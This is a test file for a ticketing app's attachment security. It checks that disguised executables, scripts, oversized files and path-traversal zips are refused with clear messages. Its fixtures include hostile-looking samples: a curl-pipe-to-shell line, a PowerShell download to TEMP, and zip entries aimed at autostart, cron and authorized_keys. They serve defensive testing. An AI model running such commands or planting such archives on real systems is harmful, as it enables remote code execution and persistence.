import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BlobStore } from '../../../src-server/blobs/blob-store.js';
import { LocalBlobStore } from '../../../src-main/core/attachments/blob-store.js';
import type { Core } from '../../../src-main/core/core-types.js';
import { MAX_ATTACHMENT_BYTES, type AttachmentRef } from '../../../src-shared/attachments.js';
import { startSupportFixture, type SupportFixture } from '../../helpers/support-fixture.js';
import { tempDir } from '../../helpers/temp-dir.js';
import { hostileYazlZip, rawZip, unicodePathExtra, yazlZip } from '../../helpers/zip-files.js';
import { callOk, openCore, syncSettled } from './support/client-fixture.js';

/**
 * Hostile attachments (issue: oversized, too many, disguised programs, archives that unpack
 * outside their folder, empty files), at the client core's contract and at the server's upload
 * route. Each is refused with a message that names the file and the reason, and nothing else is
 * lost: the outbox keeps flowing, a reply keeps its text and its other files.
 */

let f: SupportFixture;
let work: ReturnType<typeof tempDir>;
let core: Core;
let profileId: string;
let ticketId: string;

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');
const text = (s: string) => Buffer.from(s);

const png = Buffer.concat([
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  randomBytes(2048),
]);
const pdf = Buffer.concat([text('%PDF-1.7\n'), randomBytes(4096), text('\n%%EOF\n')]);
const windowsProgram = Buffer.concat([text('MZ'), Buffer.from([0x90, 0, 3, 0]), randomBytes(4000)]);
const linuxProgram = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]),
  randomBytes(900),
]);
const macProgram = Buffer.concat([
  Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]),
  randomBytes(900),
]);
const shellScript = text('#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n');
const batchScript = text('@echo off\r\npowershell -enc SQBFAFgA\r\n');
const powershell = text('Invoke-WebRequest http://203.0.113.9/x -OutFile $env:TEMP\\x.exe\n');

beforeAll(async () => {
  work = tempDir('attachments-security');
  mkdirSync(join(work.path, 'picked'));
  f = await startSupportFixture({ label: 'attachments', blobDir: join(work.path, 'server-blobs') });
  core = await openCore(join(work.path, 'client'));
  const profile = await callOk(core, 'profiles.add', {
    name: 'Support',
    serverUrl: f.server.url,
    account: f.accounts.managerA.email,
  });
  profileId = profile.id;
  await callOk(core, 'profiles.activate', { id: profile.id });
  await callOk(core, 'profiles.signIn', { password: f.accounts.managerA.password });
  ({ id: ticketId } = await callOk(core, 'tickets.create', {
    siteId: f.siteA,
    productLine: 'pti_hardware',
    category: 'technical',
    priority: 'normal',
    subject: 'Gate 2 keypad rejects valid codes',
    description: 'Since Monday the keypad at gate 2 answers ACCESS DENIED to every tenant.',
    attachments: [],
  }));
  await syncSettled(core);
});
afterAll(async () => {
  await core?.close();
  await f?.server.close();
  work?.remove();
});

/** Writes a file a user might pick; `name` is what they see, the path is unique. */
function picked(name: string, bytes: Buffer): string {
  const dir = join(work.path, 'picked');
  const path = join(dir, `${randomUUID().slice(0, 8)}-${name}`);
  writeFileSync(path, bytes);
  return path;
}

/** The server's attachment folder, read directly. */
const serverBlobs = () => new BlobStore(join(work.path, 'server-blobs'));
const clientBlobs = () => join(work.path, 'client', 'blobs', profileId);
/** Every file in the client's attachment folder, temporary ones included. */
function storedFiles(): string[] {
  const root = clientBlobs();
  if (!existsSync(root)) return [];
  return readdirSync(root, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => join(e.parentPath, e.name));
}

async function stage(path: string, name: string) {
  return core.dispatch('attachments.stageFile', { path, name }, { shell: 'test' });
}
async function staged(name: string, bytes: Buffer): Promise<AttachmentRef> {
  return callOk(core, 'attachments.stageFile', { path: picked(name, bytes), name });
}

describe('staging a file through the core contract', () => {
  const cases: [string, string, () => Promise<Buffer> | Buffer, RegExp][] = [
    ['a file with no content', 'notes.txt', () => Buffer.alloc(0), /notes\.txt is empty/],
    [
      'a Windows program named like a PDF',
      'invoice.pdf',
      () => windowsProgram,
      /invoice\.pdf looks like a Windows program/,
    ],
    [
      'a Linux program named like a photo',
      'keypad-photo.jpg',
      () => linuxProgram,
      /keypad-photo\.jpg looks like a Linux program/,
    ],
    [
      'a macOS program named like a Word document',
      'manual.docx',
      () => macProgram,
      /manual\.docx looks like a macOS program/,
    ],
    ['a shell script named like a picture', 'wiring.png', () => shellScript, /a script/],
    [
      'a batch script named like a picture',
      'diagram.png',
      () => batchScript,
      /diagram\.png was refused: its content is not a PNG image/,
    ],
    [
      'a PowerShell script named like a PDF',
      'quote.pdf',
      () => powershell,
      /quote\.pdf was refused: its content is not a PDF document/,
    ],
    [
      'a zip that climbs out of its folder',
      'gate-logs.zip',
      () =>
        hostileYazlZip([
          { name: 'logs/gate.log', data: text('ok') },
          { name: '../../../.config/autostart/x.desktop', data: text('[Desktop Entry]') },
        ]),
      /gate-logs\.zip contains "\.\.\/\.\.\/\.\.\/\.config\/autostart\/x\.desktop".*climbs out/,
    ],
    [
      'a zip with an absolute path',
      'backup.zip',
      () => hostileYazlZip([{ name: '/etc/cron.d/gatedesk', data: text('* * * * * root x') }]),
      /backup\.zip contains "\/etc\/cron\.d\/gatedesk".*absolute path/,
    ],
    [
      'a zip with backslashes',
      'export.zip',
      () => hostileYazlZip([{ name: '..\\..\\Startup\\run.bat', data: text('@echo off') }]),
      /export\.zip contains .*backslashes/,
    ],
    [
      'a zip with a drive letter',
      'site.zip',
      () => hostileYazlZip([{ name: 'C:/Windows/System32/drivers/etc/hosts', data: text('x') }]),
      /site\.zip contains "C:\/Windows.*drive letter/,
    ],
    [
      'a zip whose Unicode Path escapes',
      'photos.zip',
      () => Promise.resolve(rawZip([{ name: 'a.jpg', extra: unicodePathExtra('../../a.jpg') }])),
      /photos\.zip contains "\.\.\/\.\.\/a\.jpg"/,
    ],
    [
      'a zip holding a symbolic link',
      'config.zip',
      () => Promise.resolve(rawZip([{ name: 'home', data: text('/'), unixMode: 0o120777 }])),
      /config\.zip contains "home".*symbolic link/,
    ],
    [
      'a Word document (a zip) that climbs out',
      'report.docx',
      () => hostileYazlZip([{ name: '../word/document.xml', data: text('<w:document/>') }]),
      /report\.docx contains "\.\.\/word\/document\.xml"/,
    ],
    [
      'a cut-short zip whose escaping entry is still in its local headers',
      'cut.zip',
      async () => {
        const zip = await hostileYazlZip([
          { name: 'a.txt', data: randomBytes(3000) },
          { name: '../../cut.sh', data: text('#!/bin/sh') },
        ]);
        return zip.subarray(0, zip.length - 40);
      },
      /cut\.zip contains "\.\.\/\.\.\/cut\.sh"/,
    ],
    ['a type not on the list', 'fix.bat', () => batchScript, /only these file types/],
  ];

  it.each(cases)('refuses %s, naming the file and the reason', async (_, name, make, why) => {
    const before = storedFiles();
    const bytes = await make();
    const result = await stage(picked(name, bytes), name);
    expect(result).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    if (!result.ok) expect(result.error.message).toMatch(why);
    // nothing kept: no copy, no temporary file
    expect(storedFiles()).toEqual(before);
    expect(existsSync(new LocalBlobStore(clientBlobs()).pathOf(sha256(bytes)))).toBe(false);
  });

  it('refuses a file over 15 MB without reading it all', async () => {
    const path = picked('camera.zip', Buffer.alloc(0));
    truncateSync(path, MAX_ATTACHMENT_BYTES + 1);
    const result = await stage(path, 'camera.zip');
    expect(result).toMatchObject({
      ok: false,
      error: {
        code: 'invalid_input',
        message: expect.stringMatching(/camera\.zip is larger than 15 MB/),
      },
    });
  });

  it('takes archives and office files with plain relative names', async () => {
    const logs = await yazlZip([
      { name: 'gate-2/2026-11-23.log', data: text('ACCESS DENIED 1234\n'.repeat(200)) },
      { name: 'gate-2/keypad..old.txt', data: text('renamed') },
    ]);
    const docx = await yazlZip([
      { name: '[Content_Types].xml', data: text('<Types/>') },
      { name: 'word/document.xml', data: text('<w:document/>') },
    ]);
    expect((await staged('gate-logs.zip', logs)).sha256).toBe(sha256(logs));
    expect((await staged('site-survey.docx', docx)).sha256).toBe(sha256(docx));
  });
});

describe('a message with too many or refused files', () => {
  it('refuses a sixth file, and the queue and the draft are untouched', async () => {
    const files = await Promise.all(
      Array.from({ length: 6 }, (_, i) =>
        staged(`photo-${i}.png`, Buffer.concat([png, text(`${i}`)])),
      ),
    );
    const queued = await callOk(core, 'tickets.reply', {
      ticketId,
      body: 'A reply waiting in the outbox.',
      attachments: [],
    });
    const pending = await callOk(core, 'sync.pending', {});
    const refused = await core.dispatch(
      'tickets.reply',
      { ticketId, body: 'Six photos of the keypad.', attachments: files },
      { shell: 'test' },
    );
    expect(refused).toMatchObject({
      ok: false,
      error: {
        code: 'invalid_input',
        message: expect.stringMatching(/at most 5 files per message/),
      },
    });
    expect(await callOk(core, 'sync.pending', {})).toEqual(pending);
    // Five go through, and both replies reach the server.
    const sent = await callOk(core, 'tickets.reply', {
      ticketId,
      body: 'Five photos of the keypad.',
      attachments: files.slice(0, 5),
    });
    await syncSettled(core);
    const rows = await f.server.db
      .selectFrom('messages')
      .select(['id', 'attachments'])
      .where('id', 'in', [queued.messageId, sent.messageId])
      .execute();
    expect(rows).toHaveLength(2);
    const five = rows.find((r) => r.id === sent.messageId)!;
    expect((five.attachments as AttachmentRef[]).map((a) => a.name)).toEqual(
      files.slice(0, 5).map((a) => a.name),
    );
  });

  it('a file the server refuses holds back only its own message, which keeps its text and other files', async () => {
    // A zip the client took before it knew the rule (an older version staged it), now refused by
    // the server. It sits in the client's folder like any staged file.
    const evil = await hostileYazlZip([
      { name: '../../../startup/x.bat', data: text('@echo off') },
    ]);
    await new LocalBlobStore(clientBlobs()).storeDownloaded(sha256(evil), evil);
    const evilRef: AttachmentRef = {
      sha256: sha256(evil),
      name: 'older-logs.zip',
      size: evil.length,
      contentType: 'application/zip',
    };
    const good = await staged('wiring.pdf', pdf);

    const held = await callOk(core, 'tickets.reply', {
      ticketId,
      body: 'Logs and the wiring diagram, as asked.',
      attachments: [good, evilRef],
    });
    const after = await callOk(core, 'tickets.reply', {
      ticketId,
      body: 'Also: the gate opened fine this morning.',
      attachments: [],
    });
    await syncSettled(core);

    // The later reply went through; the refused one waits in "needs attention", whole.
    const delivered = await f.server.db
      .selectFrom('messages')
      .select(['id', 'body'])
      .where('id', 'in', [held.messageId, after.messageId])
      .execute();
    expect(delivered.map((m) => m.id)).toEqual([after.messageId]);
    const attention = await callOk(core, 'sync.attention.list', {});
    expect(attention).toHaveLength(1);
    const [item] = attention;
    expect(item!.message).toMatch(/older-logs\.zip/);
    expect(item!.message).toMatch(/unpacked outside the folder/);
    expect(item!.args).toMatchObject({
      body: 'Logs and the wiring diagram, as asked.',
      attachments: [good, evilRef],
    });
    expect(item!.actions).toContain('retry');
    expect(await serverBlobs().sizeOf(evilRef.sha256)).toBeNull();

    // Retried without the refused file: the text and the other file arrive.
    await callOk(core, 'sync.attention.resolve', {
      id: item!.id,
      action: 'retry',
      args: { ...(item!.args as object), attachments: [good] },
    });
    await syncSettled(core);
    expect(await callOk(core, 'sync.attention.list', {})).toEqual([]);
    const message = await f.server.db
      .selectFrom('messages')
      .select(['body', 'attachments'])
      .where('ticket_id', '=', ticketId)
      .where('body', '=', 'Logs and the wiring diagram, as asked.')
      .execute();
    expect(message).toHaveLength(1);
    expect(message[0]!.attachments).toEqual([good]);
    const download = await fetch(`${f.server.url}/blobs/${good.sha256}`, {
      headers: { authorization: `Bearer ${f.as.tech.token}` },
    });
    expect(Buffer.from(await download.arrayBuffer()).equals(pdf)).toBe(true);
  });
});

describe('a file whose content contradicts its image or PDF name', () => {
  it('is refused by the server when the message is applied, and waits in needs attention whole', async () => {
    // A client that skips the check at attach time (hostile, or built before the rule): a
    // script with no "#!" line, which the upload takes, named like a photo.
    const script = text('curl -s http://203.0.113.9/x | sh\n');
    await new LocalBlobStore(clientBlobs()).storeDownloaded(sha256(script), script);
    const disguised: AttachmentRef = {
      sha256: sha256(script),
      name: 'photo.png',
      size: script.length,
      contentType: 'image/png',
    };
    const good = await staged('keypad.png', Buffer.concat([png, text('keypad')]));
    const held = await callOk(core, 'tickets.reply', {
      ticketId,
      body: 'Photos of the keypad at gate 2.',
      attachments: [good, disguised],
    });
    await syncSettled(core);

    const delivered = await f.server.db
      .selectFrom('messages')
      .select('id')
      .where('id', '=', held.messageId)
      .execute();
    expect(delivered).toEqual([]);
    const attention = await callOk(core, 'sync.attention.list', {});
    expect(attention).toHaveLength(1);
    const [item] = attention;
    expect(item!.message).toMatch(
      /photo\.png was refused: its content is not a PNG image\. Attach it under its real type/,
    );
    expect(item!.message).not.toMatch(/keypad\.png/);
    expect(item!.args).toMatchObject({
      body: 'Photos of the keypad at gate 2.',
      attachments: [good, disguised],
    });
    expect(item!.actions).toContain('retry');

    // Sent again without the lying file: the text and the real photo arrive.
    await callOk(core, 'sync.attention.resolve', {
      id: item!.id,
      action: 'retry',
      args: { ...(item!.args as object), attachments: [good] },
    });
    await syncSettled(core);
    expect(await callOk(core, 'sync.attention.list', {})).toEqual([]);
    const message = await f.server.db
      .selectFrom('messages')
      .select(['body', 'attachments'])
      .where('ticket_id', '=', ticketId)
      .where('body', '=', 'Photos of the keypad at gate 2.')
      .execute();
    expect(message).toHaveLength(1);
    expect(message[0]!.attachments).toEqual([good]);
  });
});

describe('PUT /blobs/{sha256} on the server', () => {
  const put = (bytes: Buffer, token = f.as.managerA.token) =>
    fetch(`${f.server.url}/blobs/${sha256(bytes)}`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream' },
      body: new Uint8Array(bytes),
    });
  const errorOf = async (response: Response) =>
    ((await response.json()) as { error: { code: string; message: string } }).error;
  const serverFiles = () =>
    readdirSync(join(work.path, 'server-blobs'), { recursive: true, withFileTypes: true })
      .filter((e) => e.isFile())
      .map((e) => join(e.parentPath, e.name))
      .sort();

  it('refuses an empty file with 400 and keeps nothing', async () => {
    const before = serverFiles();
    const response = await put(Buffer.alloc(0));
    expect(response.status).toBe(400);
    expect((await errorOf(response)).message).toMatch(/empty \(0 bytes\)/);
    expect(serverFiles()).toEqual(before);
  });

  it.each([
    ['a Linux program', linuxProgram, /Linux program \(ELF\), whatever its name says/],
    ['a macOS program', macProgram, /macOS program \(Mach-O\)/],
    ['a shell script', shellScript, /a script \(#!\)/],
  ])('refuses %s with 415', async (_, bytes, why) => {
    const response = await put(bytes);
    expect(response.status).toBe(415);
    expect(await errorOf(response)).toMatchObject({ code: 'unsupported_content' });
    expect((await errorOf(await put(bytes))).message).toMatch(why);
    expect(await serverBlobs().sizeOf(sha256(bytes))).toBeNull();
  });

  const archives: [string, () => Promise<Buffer>, RegExp][] = [
    [
      '".." in a name',
      () => hostileYazlZip([{ name: 'ok/../../../../var/www/index.php', data: text('<?php') }]),
      /contains "ok\/\.\.\/\.\.\/\.\.\/\.\.\/var\/www\/index\.php".*climbs out/,
    ],
    [
      'an absolute path',
      () => hostileYazlZip([{ name: '/root/.ssh/authorized_keys', data: text('ssh-ed25519') }]),
      /absolute path/,
    ],
    [
      'a backslash',
      () => hostileYazlZip([{ name: 'logs\\..\\..\\boot.ini', data: text('x') }]),
      /backslashes/,
    ],
    [
      'a drive letter',
      () => hostileYazlZip([{ name: 'C:/boot.ini', data: text('x') }]),
      /drive letter/,
    ],
    [
      'a local header that differs from the directory',
      () => Promise.resolve(rawZip([{ name: 'readme.txt', localName: '../readme.txt' }])),
      /contains "\.\.\/readme\.txt"/,
    ],
    [
      'data glued in front (a zip inside a "PDF")',
      () =>
        Promise.resolve(
          rawZip([{ name: '../../x.sh' }], {
            prefix: Buffer.concat([text('%PDF-1.4\n'), randomBytes(2000)]),
          }),
        ),
      /contains "\.\.\/\.\.\/x\.sh"/,
    ],
    [
      'zip64 records',
      () => hostileYazlZip([{ name: '../zip64.txt', data: text('x') }], { zip64: true }),
      /contains "\.\.\/zip64\.txt"/,
    ],
  ];

  it.each(archives)('refuses a zip with %s, by content, with 415', async (_, make, why) => {
    const bytes = await make();
    const response = await put(bytes);
    expect(response.status).toBe(415);
    const error = await errorOf(response);
    expect(error.code).toBe('unsupported_content');
    expect(error.message).toMatch(why);
    expect(error.message).toMatch(/^This file contains/);
    expect(await serverBlobs().sizeOf(sha256(bytes))).toBeNull();
  });

  it('takes zips and office files with plain names, and keeps serving after refusals', async () => {
    const zip = await yazlZip([
      { name: 'gate/2026-11.log', data: text('ACCESS GRANTED\n'.repeat(300)) },
      { name: 'README.txt', data: text('Gate 2 export') },
    ]);
    const response = await put(zip);
    expect(response.status).toBe(201);
    expect(await serverBlobs().sizeOf(sha256(zip))).toBe(zip.length);
  });

  it('one refused file in a push refuses only the message that uses it', async () => {
    const evil = await hostileYazlZip([{ name: '../../evil.txt', data: text('x') }]);
    expect((await put(evil)).status).toBe(415);
    const ok = await put(pdf);
    expect(ok.status).toBe(201);
    const ids = [randomUUID(), randomUUID()];
    const response = await fetch(`${f.server.url}/sync/v1/push`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${f.as.managerA.token}`,
        'content-type': 'application/json',
      },
      body: JSON.stringify({
        clientId: randomUUID(),
        mutations: [
          {
            id: randomUUID(),
            name: 'ticket.reply',
            args: {
              ticketId,
              messageId: ids[0],
              body: 'With the refused archive.',
              attachments: [
                {
                  sha256: sha256(evil),
                  name: 'logs.zip',
                  size: evil.length,
                  contentType: 'application/zip',
                },
              ],
            },
            baseVersion: null,
          },
          {
            id: randomUUID(),
            name: 'ticket.reply',
            args: {
              ticketId,
              messageId: ids[1],
              body: 'With the PDF.',
              attachments: [
                {
                  sha256: sha256(pdf),
                  name: 'wiring.pdf',
                  size: pdf.length,
                  contentType: 'application/pdf',
                },
              ],
            },
            baseVersion: null,
          },
        ],
      }),
    });
    const { results } = (await response.json()) as { results: { status: string; code?: string }[] };
    expect(results.map((r) => r.status)).toEqual(['rejected', 'applied']);
    expect(results[0]!.code).toBe('blob_missing');
    const count = await sql<{
      n: string;
    }>`SELECT COUNT(*) AS n FROM messages WHERE id IN (${ids[0]}, ${ids[1]})`.execute(f.server.db);
    expect(Number(count.rows[0]!.n)).toBe(1);
  });
});
